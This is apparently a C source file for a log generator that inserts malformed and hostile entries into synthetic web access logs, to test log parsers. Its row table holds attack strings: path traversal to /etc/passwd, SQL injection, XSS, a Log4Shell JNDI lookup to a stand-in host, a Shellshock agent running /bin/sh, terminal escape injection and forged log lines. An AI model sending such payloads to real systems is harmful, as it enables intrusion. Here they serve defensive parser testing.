#include "loggen/odd.h"

#include "base/mem.h"
#include <stdlib.h>

#define BYTES(literal)                                                                             \
    {                                                                                              \
        literal, sizeof(literal) - 1                                                               \
    }

enum where { ANY = 3, TEXT_LOG = 1, JSON_LOG = 2 };

/* A text that is absent leaves what the request had. */
struct row {
    enum where where;
    enum { CHANGE, REQUEST, VERBATIM } what;
    struct text method, target, protocol; /* of REQUEST all three count; verbatim: method */
    uint16_t status;                      /* 0: as it was */
    uint16_t bytes;
    uint32_t pad; /* so many bytes are added to the target */
    struct text user, agent, referrer;
};

#define FAKE                                                                                       \
    "x\" 200 5 \"-\" \"-\"\n203.0.113.66 - - [01/Jan/2030:00:00:00 +0000] \"GET /forged "          \
    "HTTP/1.1\" "                                                                                  \
    "200 1 \"-\" \"forged"

static const struct row rows[] = {
    /* requests that are none */
    {.where = TEXT_LOG,
     .what = REQUEST,
     .method = BYTES("\x16\x03\x01\x02\0\x01\0\x01\xfc\x03\x03\xa8\"\\Z"),
     .status = 400,
     .bytes = 226},
    {.where = TEXT_LOG,
     .what = REQUEST,
     .method = BYTES("\x16\x03\x01"),
     .status = 400,
     .bytes = 226},
    {.where = TEXT_LOG, .what = REQUEST, .status = 408},
    {.where = TEXT_LOG, .what = REQUEST, .status = 400, .bytes = 157},
    {.where = TEXT_LOG,
     .what = REQUEST,
     .method = BYTES("PRI"),
     .target = BYTES("*"),
     .protocol = BYTES("HTTP/2.0"),
     .status = 400,
     .bytes = 157},
    {.where = ANY,
     .what = REQUEST,
     .method = BYTES("OPTIONS"),
     .target = BYTES("*"),
     .protocol = BYTES("HTTP/1.0"),
     .status = 200,
     .bytes = 126},
    {.where = ANY,
     .what = REQUEST,
     .method = BYTES("CONNECT"),
     .target = BYTES("mail.example.net:443"),
     .protocol = BYTES("HTTP/1.1"),
     .status = 405,
     .bytes = 230},
    {.where = ANY,
     .what = REQUEST,
     .method = BYTES("GET"),
     .target = BYTES("http://www.example.net/judge.php?x=1"),
     .protocol = BYTES("HTTP/1.1"),
     .status = 404,
     .bytes = 1245},
    {.where = TEXT_LOG,
     .what = REQUEST,
     .method = BYTES("GET"),
     .target = BYTES("/"),
     .status = 200,
     .bytes = 5115},
    {.where = TEXT_LOG,
     .what = REQUEST,
     .method = BYTES("lv|'|'|TWFyaw==|'|'|HOST"),
     .status = 400,
     .bytes = 157},
    {.where = TEXT_LOG,
     .what = REQUEST,
     .method = BYTES("GET"),
     .target = BYTES("/my file name.txt"),
     .protocol = BYTES("HTTP/1.1"),
     .status = 404,
     .bytes = 1245},
    {.where = TEXT_LOG,
     .what = REQUEST,
     .method = BYTES("GET"),
     .target = BYTES("@example.net::80/a.png"),
     .protocol = BYTES("HTTP/1.1"),
     .status = 400,
     .bytes = 226},
    /* targets */
    {.where = ANY,
     .what = CHANGE,
     .target = BYTES("/a/../../../../../../etc/passwd"),
     .status = 400,
     .bytes = 226},
    {.where = ANY,
     .what = CHANGE,
     .target = BYTES("/item?id=1'%20UNION%20SELECT%20NULL,@@version--%20-"),
     .status = 403,
     .bytes = 276},
    {.where = ANY,
     .what = CHANGE,
     .target = BYTES("/search?q=<script>alert(1)</script>"),
     .status = 200,
     .bytes = 3110},
    {.where = ANY,
     .what = CHANGE,
     .target = BYTES("/caf\xc3\xa9/\xe2\x80\xaegnp.exe"),
     .status = 404,
     .bytes = 1245},
    {.where = TEXT_LOG,
     .what = CHANGE,
     .target = BYTES("/\x1b[2J\x1b[31mred\x1b]0;owned\x07"),
     .status = 404,
     .bytes = 1245},
    {.where = ANY,
     .what = CHANGE,
     .target = BYTES("/%00/%c0%ae%c0%ae/\xff\xfe"),
     .status = 400,
     .bytes = 226},
    {.where = ANY,
     .what = CHANGE,
     .target = BYTES("/long/"),
     .pad = 4000,
     .status = 414,
     .bytes = 248},
    {.where = ANY,
     .what = CHANGE,
     .target = BYTES("/longer/"),
     .pad = 8100,
     .status = 414,
     .bytes = 248},
    {.where = ANY,
     .what = CHANGE,
     .target = BYTES("/longest/"),
     .pad = 70000,
     .status = 414,
     .bytes = 248},
    /* users, agents, referrers */
    {.where = TEXT_LOG, .what = CHANGE, .user = BYTES("John Smith")},
    {.where = TEXT_LOG, .what = CHANGE, .user = BYTES("o\"hara]\\")},
    {.where = ANY,
     .what = CHANGE,
     .agent = BYTES("Mozilla/5.0 (compatible; \"Quoted\" Agent; +http://[::1]/)")},
    {.where = ANY, .what = CHANGE, .agent = BYTES("half a \" quote")},
    {.where = ANY, .what = CHANGE, .agent = BYTES("backslash at the end\\")},
    {.where = ANY,
     .what = CHANGE,
     .agent = BYTES("[20/Nov/2000:01:02:03 +0000] \"GET /fake HTTP/1.1\" 200 1")},
    {.where = ANY,
     .what = CHANGE,
     .agent = BYTES("${jndi:ldap://198.51.100.7:1389/Exploit}"),
     .status = 400,
     .bytes = 226},
    {.where = ANY, .what = CHANGE, .agent = BYTES("() { :; }; /bin/sh -c 'id'")},
    {.where = ANY,
     .what = CHANGE,
     .agent = BYTES("\x1b[1;31m\x9b"
                    "5m\xc2\x9b"
                    "7mred\t\r\n\v\b\f\x7f")},
    {.where = TEXT_LOG, .what = CHANGE, .agent = BYTES(FAKE)},
    {.where = ANY, .what = CHANGE, .agent = BYTES("\xed\xa0\x80\xf0\x9f\x92\xa9\xc3(\xe2\x82")},
    {.where = ANY, .what = CHANGE, .referrer = BYTES("javascript:alert('\"')")},
    {.where = ANY,
     .what = CHANGE,
     .referrer = BYTES("https://example.net/?q=\xd0\xb4\xd0\xb0 \xe2\x80\x8b")},
    /* what is no line of an access log */
    {.where = TEXT_LOG, .what = VERBATIM, .method = BYTES("203.0.113.7 - - [20/No")},
    {.where = TEXT_LOG,
     .what = VERBATIM,
     .method = BYTES(
         "[Fri Nov 20 03:03:51.123456 2026] [mpm_event:notice] [pid 1:tid 1] AH00489: resuming "
         "normal operations")},
    {.where = TEXT_LOG,
     .what = VERBATIM,
     .method = BYTES("    at java.base/java.lang.Thread.run(Thread.java:842)")},
    {.where = TEXT_LOG,
     .what = VERBATIM,
     .method = BYTES("\x1b]0;owned\x07\x1b[2J\x1b[31m\0\xff\r")},
    {.where = JSON_LOG,
     .what = VERBATIM,
     .method = BYTES("{\"level\":\"info\",\"ts\":1700000000.25,\"logger\":\"tls\",\"msg\":"
                     "\"certificate obtained\"}")},
    {.where = JSON_LOG, .what = VERBATIM, .method = BYTES("{\"level\":\"info\",\"ts\":17000000")},
    {.where = JSON_LOG,
     .what = VERBATIM,
     .method = BYTES("{\"a\":[[[[[[[[[[[[[[[[[[[[[[{\"b\":\"\\ud800\"")},
};
#define ROWS (sizeof(rows) / sizeof(rows[0]))

struct odd {
    uint32_t usable[ROWS];
    uint32_t count;
    char *padded[ROWS]; /* the long targets */
};

static void pad_target(struct odd *odd, size_t i)
{
    size_t len = rows[i].target.len;
    odd->padded[i] = mem_new(len + rows[i].pad, 1);
    memset(odd->padded[i], 'A', len + rows[i].pad);
    memcpy(odd->padded[i], rows[i].target.at, len);
}

struct odd *odd_new(bool json)
{
    struct odd *odd = mem_new(1, sizeof(*odd));
    for (size_t i = 0; i < ROWS; i++) {
        if ((rows[i].where & (json ? JSON_LOG : TEXT_LOG)) == 0)
            continue;
        odd->usable[odd->count++] = (uint32_t)i;
        if (rows[i].pad)
            pad_target(odd, i);
    }
    return odd;
}

void odd_free(struct odd *odd)
{
    if (!odd)
        return;
    for (size_t i = 0; i < ROWS; i++)
        free(odd->padded[i]);
    free(odd);
}

static void replace(struct text *old, struct text with)
{
    if (with.len > 0)
        *old = with;
}

void odd_change(const struct odd *odd, struct hit *hit, struct random *random)
{
    uint32_t i = odd->usable[random_below(random, odd->count)];
    const struct row *row = &rows[i];
    hit->foreign = true;
    if (row->what == VERBATIM) {
        hit->verbatim = row->method;
        return;
    }
    if (row->what == REQUEST) {
        hit->method = row->method;
        hit->target = row->target;
        hit->protocol = row->protocol;
        hit->user = hit->referrer_site = hit->referrer_path = hit->agent = text_make(NULL, 0);
    } else {
        replace(&hit->target, row->target);
        if (odd->padded[i])
            hit->target = text_make(odd->padded[i], row->target.len + row->pad);
    }
    if (row->referrer.len) {
        hit->referrer_site = row->referrer;
        hit->referrer_path = text_make(NULL, 0);
    }
    replace(&hit->user, row->user);
    replace(&hit->agent, row->agent);
    if (row->status) {
        hit->status = row->status;
        hit->bytes = row->bytes;
    }
}
